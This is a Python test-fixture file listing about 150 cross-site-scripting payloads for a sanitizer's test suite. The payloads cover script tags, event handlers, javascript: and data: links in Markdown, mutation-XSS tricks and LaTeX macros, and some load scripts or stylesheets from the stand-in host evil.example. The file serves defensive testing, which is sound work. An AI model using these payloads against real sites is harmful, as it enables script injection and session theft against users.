"""Hostile input for every field an editor fills: the OWASP XSS filter-evasion vectors and
their Markdown, LaTeX and feed-specific cousins.

Each payload is written as an attacker would type it; tests/test_hostile.py puts each one in
every field (note title to figure caption) and reads every page, feed and admin screen that
shows it. Sources: the OWASP XSS Filter Evasion Cheat Sheet, the HTML5 Security Cheatsheet
(html5sec.org), published DOMPurify/bleach mutation-XSS bypasses, and what Markdown (inline,
reference and autolinks, attribute lists, fences) and Temml (``\\href``, ``\\htmlData``…)
add to the surface.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


def _entities(text: str, form: str) -> str:
    """``text`` as character references: "dec" (&#106;), "hex" (&#x6A;), "pad" (&#0000106,
    no semicolon), "hexbare" (&#x6A, no semicolon)."""
    return "".join(
        {
            "dec": f"&#{ord(c)};",
            "hex": f"&#x{ord(c):X};",
            "pad": f"&#{ord(c):07d}",
            "hexbare": f"&#x{ord(c):X}",
        }[form]
        for c in text
    )


_JS = "javascript:alert(1)"
_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS: tuple[Payload, ...] = (
    # --- Script elements: cases, splits, encodings -------------------------------------
    Payload("script", "<script>alert(1)</script>"),
    Payload("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    Payload("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    Payload("script-src", '<script src="https://evil.example/x.js"></script>'),
    Payload("script-slash-attr", '<script/xss src="https://evil.example/x.js"></script>'),
    Payload("script-double-open", "<<script>alert(1);//<</script>"),
    Payload("script-unclosed", "<script>alert(1)"),
    Payload("script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Payload("script-null-byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    Payload("script-url-encoded", "%3Cscript%3Ealert(1)%3C/script%3E"),
    Payload("script-entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Payload("script-json-escaped", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    Payload("script-fullwidth", "＜script＞alert(1)＜/script＞"),
    Payload("script-comment-split", "<script>/*</script><script>*/alert(1)</script>"),
    # --- Breaking out of the context a value lands in ----------------------------------
    Payload("close-script", "</script><script>alert(1)</script>"),
    Payload("close-script-upper", "</SCRIPT ><img src=x onerror=alert(1)>"),
    Payload("attr-double-quote", '"><script>alert(1)</script>'),
    Payload("attr-single-quote", "'><img src=x onerror=alert(1)>"),
    Payload("attr-unquoted", "x onmouseover=alert(1) x=y"),
    Payload("close-title", "</title><script>alert(1)</script>"),
    Payload("close-textarea", "</textarea><script>alert(1)</script>"),
    Payload("close-comment", "--><script>alert(1)</script><!--"),
    Payload("comment-wrapped", "<!--<script>alert(1)</script>-->"),
    Payload("comment-unclosed", "<!-- <script>alert(1)</script>"),
    Payload("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Payload("cdata-close", "]]><script>alert(1)</script><![CDATA["),
    Payload("json-line-separator", "\u2028\u2029</script><script>alert(1)</script>"),
    Payload("json-quote-break", '"}]}</script><script>alert(1)</script>'),
    Payload("bidi-override", "\u202etxt.exe<script>alert(1)</script>"),
    # C0 controls: XML 1.0 cannot carry them, so a feed that copies them verbatim breaks.
    Payload("control-characters", "\x01\x08\x0b\x0c\x1b<script>alert(1)</script>\x7f"),
    # --- Event handlers ----------------------------------------------------------------
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    Payload("img-slashes", "<img/src=x/onerror=alert(1)>"),
    Payload("img-onerror-tab", "<img src=x\tonerror\t=\talert(1)>"),
    Payload("img-onerror-newline", "<img src=x\nonerror=alert(1)>"),
    Payload("img-malformed-quotes", '<IMG """><SCRIPT>alert(1)</SCRIPT>">'),
    Payload("img-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    Payload("body-onload", "<body onload=alert(1)>"),
    Payload("svg-onload", "<svg onload=alert(1)>"),
    Payload("svg-slash-onload", "<svg/onload=alert(1)>"),
    Payload("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    Payload("a-onclick", '<a href="#" onclick="alert(1)">x</a>'),
    Payload("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    Payload("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    Payload("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    Payload("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    Payload("title-attribute-confusion", '<p title="</p><img src=x onerror=alert(1)>">x</p>'),
    # --- javascript:, vbscript:, data: in Markdown links -------------------------------
    Payload("md-link-js", f"[x]({_JS})"),
    Payload("md-link-js-upper", "[x](JAVASCRIPT:alert(1))"),
    Payload("md-link-js-spaces", "[x](  javascript:alert(1))"),
    Payload("md-link-js-tab", "[x](java\tscript:alert(1))"),
    Payload("md-link-js-entity-tab", "[x](jav&#x09;ascript:alert(1))"),
    Payload("md-link-js-dec-entities", f"[x]({_entities('javascript:', 'dec')}alert(1))"),
    Payload("md-link-js-hex-entities", f"[x]({_entities('javascript:', 'hexbare')}alert(1))"),
    Payload("md-link-js-colon-entity", "[x](javascript&colon;alert(1))"),
    Payload("md-link-js-angle", "[x](<javascript:alert(1)>)"),
    Payload("md-link-js-comment", "[x](javascript://%0Aalert(1))"),
    Payload("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    Payload("md-link-data-html", f"[x](data:text/html;base64,{_B64_SCRIPT})"),
    Payload("md-ref-link-js", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    Payload("md-ref-link-js-angle", '[x][evil]\n\n[evil]: <javascript:alert(1)> "t"'),
    Payload("md-ref-link-shortcut-js", "[evil]\n\n[evil]: JaVaScRiPt:alert(1)"),
    Payload("md-autolink-js", "<javascript:alert(1)>"),
    Payload("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    Payload("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    Payload("md-image-js", "![x](javascript:alert(1))"),
    Payload("md-image-svg-data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    # A quote typed in \text{} once closed the attribute a formula was copied into; "/" stands
    # for the space, which Temml writes as a no-break space the tokenizer does not split on.
    Payload(
        "md-image-alt-math",
        '![图 $\\text{"/src="https://evil.example/p.png}$ x](/media/x.png "t $\\text{"/a="}$")',
    ),
    Payload("md-link-title-math", '[x](https://example.org "$\\text{"/onmouseover="alert(1)}$")'),
    Payload("md-link-title-breakout", '[x](https://example.org "\\" onmouseover=\\"alert(1)")'),
    Payload("md-attr-list-onclick", '## 标题 {: onclick="alert(1)" style="color:red" }'),
    Payload("md-attr-list-href", '[x](https://example.org){: href="javascript:alert(1)" }'),
    Payload("md-in-html", '<div markdown="1">[x](javascript:alert(1))</div>'),
    Payload("md-abbr-title", 'HTML\n\n*[HTML]: "><img src=x onerror=alert(1)>'),
    Payload("md-footnote-html", "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>"),
    Payload("md-heading-toc", "## <img src=x onerror=alert(1)>\n\n## b\n\n## c"),
    Payload("md-wikilink-script", "[[<script>alert(1)</script>]]"),
    Payload("md-wikilink-alias", "[[missing|<img src=x onerror=alert(1)>]]"),
    Payload("linkify-quote", 'https://example.org/"onmouseover="alert(1)'),
    Payload("linkify-script", "www.example.org/<script>alert(1)</script>"),
    # --- The same in raw HTML -----------------------------------------------------------
    Payload("html-a-js", f'<a href="{_JS}">x</a>'),
    Payload("html-a-js-control", '<a href=" &#14; javascript:alert(1)">x</a>'),
    Payload("html-a-js-newline", '<a href="java\nscript:alert(1)">x</a>'),
    Payload("html-a-js-entity-newline", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    Payload("html-a-js-entity-cr", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    Payload("html-a-js-partial-entity", '<a href="javas&#99;ript:alert(1)">x</a>'),
    Payload("html-a-js-padded-entities", f'<a href="{_entities(_JS, "pad")}">x</a>'),
    Payload("html-a-js-hex-entities", f'<a href="{_entities(_JS, "hex")}">x</a>'),
    Payload("html-a-js-unquoted", "<a href=javascript:alert(1)>x</a>"),
    Payload("html-a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    Payload("html-a-data", f'<a href="data:text/html;base64,{_B64_SCRIPT}">x</a>'),
    Payload("html-img-js-tab", '<img src="jav\tascript:alert(1)">'),
    Payload("html-img-srcset", '<img src="/x.png" srcset="javascript:alert(1) 1x">'),
    Payload("html-area-href", '<map><area href="javascript:alert(1)"></map>'),
    # --- Raw HTML in and around code ----------------------------------------------------
    Payload("fence-close-pre", "```\n</code></pre><script>alert(1)</script>\n```"),
    Payload("fence-html-lang", "```html\n<script>alert(1)</script>\n```"),
    Payload("fence-info-breakout", '```"><img src=x onerror=alert(1)>\nx\n```'),
    Payload("fence-info-attr", "```python onload=alert(1)\nx = 1\n```"),
    Payload("fence-then-html", "~~~\ncode\n~~~\n<img src=x onerror=alert(1)>"),
    Payload("fence-unclosed", "```\n<script>alert(1)</script>"),
    Payload("indented-code", "    <script>alert(1)</script>\n    <img src=x onerror=alert(1)>"),
    Payload("code-span", "`<img src=x onerror=alert(1)>`"),
    Payload("pre-code-raw", "<pre><code>\n```\n</code></pre><script>alert(1)</script>"),
    # --- Mutation XSS: foreign content, raw-text and template elements ------------------
    Payload(
        "mxss-math-mglyph",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    Payload("mxss-math-style", "<math><style><img src=x onerror=alert(1)></style></math>"),
    Payload("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    Payload("math-xlink-href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    Payload(
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>'
        "</annotation-xml></math>",
    ),
    Payload("svg-script", "<svg><script>alert(1)</script></svg>"),
    Payload("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    Payload(
        "svg-animate-href",
        '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    ),
    Payload("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    Payload("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    Payload("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Payload("noscript-style", "<noscript><style></noscript><img src=x onerror=alert(1)>"),
    Payload("template-script", "<template><script>alert(1)</script></template>"),
    Payload("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    Payload("style-img", "<style><img src=x onerror=alert(1)></style>"),
    Payload("textarea-script", "<textarea><script>alert(1)</script></textarea>"),
    Payload("xmp-script", "<xmp><script>alert(1)</script></xmp>"),
    Payload("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    Payload("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    Payload("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    Payload(
        "button-formaction", '<form><button formaction="javascript:alert(1)">x</button></form>'
    ),
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Payload("base-href", '<base href="javascript:alert(1)//">'),
    Payload("object-data", '<object data="javascript:alert(1)"></object>'),
    Payload("embed-src", '<embed src="javascript:alert(1)">'),
    Payload("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    # --- CSS ----------------------------------------------------------------------------
    Payload("css-url-js", '<div style="background:url(javascript:alert(1))">x</div>'),
    Payload("css-expression", '<div style="width: expression(alert(1))">x</div>'),
    Payload("css-moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>'),
    Payload(
        "css-table-background",
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    ),
    # --- LaTeX that could carry links or markup ----------------------------------------
    Payload("tex-href", "$\\href{javascript:alert(1)}{x}$"),
    Payload("tex-href-display", "$$\\href{javascript:alert(1)}{x}$$"),
    Payload("tex-href-bracket", "\\[ \\href{javascript:alert(1)}{x} \\]"),
    Payload("tex-url", "$\\url{javascript:alert(1)}$"),
    Payload("tex-unicode", "$\\unicode{x3C}script\\unicode{x3E}$"),
    Payload("tex-class", '$\\class{x" onclick="alert(1)}{y}$'),
    Payload("tex-style", "$\\style{background:url(javascript:alert(1))}{x}$"),
    Payload("tex-htmlid", '$\\htmlId{x" onclick="alert(1)}{y}$'),
    Payload("tex-htmldata", "$\\htmlData{onclick=alert(1)}{x}$"),
    Payload("tex-text-script", "$\\text{<script>alert(1)</script>}$"),
    Payload("tex-text-close-math", "$\\text{</math><img src=x onerror=alert(1)>}$"),
    Payload("tex-close-annotation", "$x</annotation></semantics></math><script>alert(1)</script>$"),
    Payload("tex-def-markup", "$\\def\\x{<img src=x onerror=alert(1)>}\\x$"),
    Payload("tex-operatorname", "$\\operatorname{<script>}x$"),
    Payload("tex-color-breakout", '$\\color{red" onload="alert(1)}{x}$'),
    Payload("tex-includegraphics", "$\\includegraphics{javascript:alert(1)}$"),
    Payload(
        "tex-label", '$$x \\label{a" onclick="alert(1)}$$\n\nSee \\eqref{a" onclick="alert(1)}.'
    ),
    Payload("tex-paren-text", "\\( \\text{<img src=x onerror=alert(1)>} \\)"),
    Payload("tex-array-html", "$$\\begin{array}{c}<script>alert(1)</script>\\end{array}$$"),
)

# A harmless word every value carries before and after its payload: it must still show.
MARKER = "安全文本"
